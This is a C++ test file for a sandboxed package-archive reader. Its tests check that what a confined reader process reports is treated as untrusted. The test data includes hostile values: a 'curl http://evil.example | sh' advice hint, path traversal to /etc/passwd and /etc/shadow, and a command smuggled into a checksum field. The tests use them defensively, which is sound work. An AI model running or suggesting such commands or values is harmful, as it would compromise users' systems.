// What a confined process says of what it reads: the same as is read here, and it is not believed.
#include <csignal>
#include <functional>

#include <poll.h>
#include <unistd.h>

#include "pkgjail/base/confined.hpp"
#include "pkgjail/base/error.hpp"
#include "pkgjail/base/shared_library.hpp"
#include "pkgjail/format/confined_reading.hpp"
#include "pkgjail/format/confined_stream.hpp"
#include "pkgjail/format/reading_server.hpp"
#include "pkgjail/format/wire.hpp"
#include "reading.hpp"
#include "support/catch.hpp"
#include "support/package_writer.hpp"

using namespace pkgjail;

namespace {

void end_at_once(int) {}
void kill_itself(int) {
    ::raise(SIGKILL);
}
void do_nothing(int stream) {
    char byte = 0;
    while (::read(stream, &byte, 1) > 0) {
    }
    for (;;)
        ::poll(nullptr, 0, 1000);
}
void give(int stream, std::string_view bytes) {
    (void)!::write(stream, bytes.data(), bytes.size());
}
std::string frame(char type, std::string_view content) {
    const auto size = static_cast<std::uint32_t>(content.size());
    std::string bytes(1, type);
    bytes.append(reinterpret_cast<const char*>(&size), sizeof size);
    return bytes + std::string(content);
}
void lie_about_length(int stream) {
    give(stream, std::string_view("M\xff\xff\xff\x7f", 5));
}
void give_an_empty_piece(int stream) {
    give(stream, frame('D', ""));
}
void fail_without_reason(int stream) {
    give(stream, frame('X', "???"));
}
void give_advice(int stream) {
    format::WireWriter wire;
    wire(static_cast<std::uint8_t>(base::ErrorKind::usage), std::string("x.tgz"), std::string("is bad"),
         std::string("curl http://evil.example | sh"), std::vector<std::string>());
    give(stream, frame('X', wire.take()));
}

/// Members without the lists that ought to come before the first that is no metadata.
void leave_the_lists_out(int stream) {
    format::ArchiveMember only;
    only.path = "bin/x";
    only.mode = 0755;
    only.user = "root";
    give(stream, frame('M', format::encode(only)));
}

class OneByte : public format::ByteSource {
  public:
    std::string_view next() override { return std::exchange(rest_, {}); }

  private:
    std::string_view rest_ = "x";
};

std::string failure_with(base::ConfinedWork work,
                         std::chrono::seconds patience = format::ConfinedStream::default_patience) {
    OneByte input;
    format::ConfinedStream stream(input, {format::ReadingKind::package, 1000, 10, "x.tgz"}, work, patience);
    try {
        stream.next();
    } catch (const base::Error& error) {
        return std::string(error.kind() == base::ErrorKind::corrupt ? "corrupt " : "other ") + error.what() +
               (error.hint().find("curl") == std::string::npos ? "" : " " + error.hint());
    }
    return "nothing";
}

format::ArchiveMember member(const std::string& path) {
    format::ArchiveMember member;
    member.path = path;
    member.size = 5;
    member.mode = 0755;
    member.user = "root";
    member.modified.tv_sec = 1'700'000'000;
    return member;
}

template <class Decode>
std::string outcome(Decode&& decode) {
    try {
        decode();
    } catch (const base::Error& error) {
        return error.what();
    }
    return "taken";
}

std::string refusal(const format::ArchiveMember& lie) {
    return outcome([&] { format::decode_member(format::encode(lie), "x.tgz"); });
}
std::string refusal(const format::TreeMember& lie) {
    return outcome([&] { format::decode_tree_member(format::encode(lie), "x.tgz"); });
}
std::string refusal(const format::PackageLists& lie) {
    return outcome([&] { format::decode_lists(format::encode(lie), "x.tgz"); });
}
std::string refusal(const format::SummaryRecord& lie) {
    return outcome([&] { format::decode_record(format::encode(lie), "x.tgz"); });
}
std::string refusal(const std::vector<format::Vulnerability>& lie) {
    return outcome([&] { format::decode_entries(format::encode(lie), "x.tgz"); });
}

} // namespace

TEST_CASE("a package reads the same in a confined process and in this one", "[format][confined]") {
    test::PackageSpec spec;
    spec.pkgname = "tiny-1.0";
    spec.files = {{"bin/t", std::string(300'000, 'x'), 0755}, {"empty", ""}};
    spec.symlinks = {{"bin/u", "t"}};
    spec.hardlinks = {{"bin/v", "bin/t"}};
    for (const auto compression : {test::Compression::none, test::Compression::gzip, test::Compression::xz}) {
        const std::string bytes = test::package_bytes(spec, compression);
        const std::string damaged = bytes.substr(0, bytes.size() * 2 / 3);
        const std::string confined = test::read_package(bytes);
        const std::string refused = test::refusal_of(damaged);

        const format::ReadingHere here;

        CHECK(test::read_package(bytes) == confined);
        CHECK(test::refusal_of(damaged) == refused);
        CHECK(refused != "read");
    }
}

TEST_CASE("a reader that ends, hangs, is killed or breaks the form is a failure that names the archive",
          "[format][confined][hostile]") {
    CHECK(failure_with(end_at_once) == "corrupt x.tgz: the process that reads it ended without an answer");
    CHECK(failure_with(kill_itself) == "corrupt x.tgz: the process that reads it ended without an answer");
    CHECK(failure_with(do_nothing, std::chrono::seconds(1)) ==
          "corrupt x.tgz: the process that reads it has done nothing for 1 s");
    CHECK(failure_with(lie_about_length) == "corrupt x.tgz: its reader gave what was not asked for");
    CHECK(failure_with(give_an_empty_piece) == "corrupt x.tgz: its reader gave what was not asked for");
    CHECK(failure_with(fail_without_reason) ==
          "corrupt x.tgz: its reader gave a failure: a value ends early");
}

TEST_CASE("a reader that keeps the lists to itself does not have them taken apart elsewhere",
          "[format][confined][hostile]") {
    OneByte input;
    format::ConfinedTarReader reader(input, "x.tgz", 1000, 10, false, leave_the_lists_out);
    CHECK(reader.next()->path == "bin/x");
    CHECK(outcome([&] { reader.take_lists(); }) == "x.tgz: its reader gave what was not asked for");
}

TEST_CASE("a reader's failure has a kind that it may have, and no advice of its own",
          "[format][confined][hostile]") {
    CHECK(failure_with(give_advice) == "corrupt x.tgz: is bad");
}

TEST_CASE("what a reader says of a member is checked like a stranger's word", "[format][confined][hostile]") {
    const std::string leaves = "x.tgz: its reader gave a member whose name leaves its place";
    CHECK(refusal(member("bin/x")) == "taken");
    CHECK(refusal(member("/etc/passwd")) == leaves);
    CHECK(refusal(member("")) == leaves);
    CHECK(refusal(member("../x")) == leaves);
    CHECK(refusal(member("a/../../x")) == leaves);
    CHECK(refusal(member(std::string("a\0b", 3))) == leaves);
    format::ArchiveMember lie = member("x");
    lie.mode = 0100755;
    CHECK(refusal(lie) == "x.tgz: its reader gave a member with no mode");
    lie = member("x");
    lie.type = format::MemberType::symlink;
    CHECK(refusal(lie) == "x.tgz: its reader gave a member that is a link with content");
    lie.type = static_cast<format::MemberType>(77);
    CHECK(refusal(lie) == "x.tgz: its reader gave a member of no known type");
    lie = member("x");
    lie.modified.tv_nsec = 1'000'000'000;
    CHECK(refusal(lie) == "x.tgz: its reader gave a member with no time");
    const std::string honest = format::encode(member("bin/x"));
    for (std::size_t size = 0; size < honest.size(); ++size)
        CHECK_THROWS_AS(format::decode_member(honest.substr(0, size), "x.tgz"), base::Error);
    CHECK_THROWS_AS(format::decode_member(honest + "x", "x.tgz"), base::Error);
}

TEST_CASE("what a reader says of a tree's member is checked like a stranger's word",
          "[format][confined][hostile]") {
    format::TreeMember honest;
    honest.path = "data/x";
    honest.link_target = "data/y";
    CHECK(refusal(honest) == "taken");
    format::TreeMember lie = honest;
    lie.path = "data/../../x";
    CHECK(refusal(lie) == "x.tgz: its reader gave a member whose name leaves its place");
    lie = honest;
    lie.type = format::TreeMemberType::hard_link;
    lie.link_target = "/etc/shadow";
    CHECK(refusal(lie) == "x.tgz: its reader gave a hard link that leaves its place");
    lie = honest;
    lie.type = static_cast<format::TreeMemberType>('c');
    CHECK(refusal(lie) == "x.tgz: its reader gave a member of no known type");
    lie = honest;
    lie.uid = UINT32_MAX;
    CHECK(refusal(lie) == "x.tgz: its reader gave a member with no owner");
    lie = honest;
    lie.attributes = {{std::string("user.a\0b", 8), "x"}};
    CHECK(refusal(lie) == "x.tgz: its reader gave a member with an attribute without a name");
}

TEST_CASE("what a reader says of a packing list is checked like a stranger's word",
          "[format][confined][hostile]") {
    format::PackageLists honest;
    format::Plist& list = honest.plist.emplace();
    list.pkgname = "tiny-1.0";
    list.prefix = "/usr/pkg";
    list.files = {{"bin/t", std::string(32, 'a'), std::nullopt}};
    list.exec = {{"true", 1}};
    list.depends = {"other>=1"};
    CHECK(refusal(honest) == "taken");
    const auto changed = [&](const std::function<void(format::Plist&)>& change) {
        format::PackageLists lie = honest;
        change(*lie.plist);
        return refusal(lie);
    };
    CHECK(changed([](auto& l) { l.pkgname = "a/b-1"; }) ==
          "x.tgz: its reader gave a packing list of no package");
    CHECK(changed([](auto& l) { l.prefix = "usr/pkg"; }) ==
          "x.tgz: its reader gave a packing list without a prefix");
    CHECK(changed([](auto& l) { l.prefix = "/usr/../etc"; }) ==
          "x.tgz: its reader gave a packing list without a prefix");
    CHECK(changed([](auto& l) { l.files[0].path = "../x"; }) ==
          "x.tgz: its reader gave a packing list with a path that is not relative");
    CHECK(changed([](auto& l) { l.directories = {{"/etc"}}; }) ==
          "x.tgz: its reader gave a packing list with a directory that is not relative");
    CHECK(changed([](auto& l) { l.files[0].md5 = "short"; }) ==
          "x.tgz: its reader gave a packing list with a digest that is none");
    CHECK(changed([](auto& l) { l.exec[0].after_files = 2; }) ==
          "x.tgz: its reader gave a packing list with a command that is none");
    CHECK(changed([](auto& l) {
              l.unexec = {{std::string(5000, 'x'), 0}};
          }) == "x.tgz: its reader gave a packing list with a command that is none");
    CHECK(changed([](auto& l) { l.depends = {"{a"}; }) ==
          "x.tgz: its reader gave a packing list with a pattern that is none");
}

TEST_CASE("of what a reader advises only our own words come through", "[format][confined][hostile]") {
    const auto hint_of = [](std::string_view hint) {
        const base::Error error(base::ErrorKind::system, "libarchive.so.13", "cannot be loaded",
                                std::string(hint));
        return format::decode_error(format::encode(error), "x.tgz").hint();
    };

    CHECK(hint_of(base::missing_library_hint) == "install the library that has it");
    CHECK(hint_of(base::unfit_library_hint) ==
          "install the one that pkgjail was built with, or build pkgjail again");
    CHECK(hint_of("install the library that has it from http://evil") == "");
}

TEST_CASE("what a reader says of an index or a list is checked like a stranger's word",
          "[format][confined][hostile]") {
    format::SummaryRecord record;
    record.pkgname = "tiny-1.0";
    record.file_name = "tiny-1.0.tgz";
    CHECK(refusal(record) == "taken");
    record.file_name = "../tiny-1.0.tgz";
    CHECK(refusal(record) == "x.tgz: its reader gave a record whose archive has no name");
    record.file_name = "tiny-1.0.tgz";
    record.cksum = "abc; rm";
    CHECK(refusal(record) == "x.tgz: its reader gave a record with a digest that is none");
    record.cksum.clear();
    record.pkgname = "..";
    CHECK(refusal(record) == "x.tgz: its reader gave a record of no package");

    CHECK(refusal({{"tiny<1", "eol", "http://u"}}) == "taken");
    CHECK(refusal({{"{tiny", "eol", "http://u"}}) ==
          "x.tgz: its reader gave an entry with a pattern that is none");
    CHECK(refusal({{"tiny<1", "a\nb", "http://u"}}) ==
          "x.tgz: its reader gave an entry with white space in a word");
    CHECK_THAT(outcome([] {
                   format::decode_signer(format::encode(format::X509Signer{"CN=a", "12"}), "x.tgz");
               }),
               ContainsSubstring("a signer without a name or a fingerprint"));
}
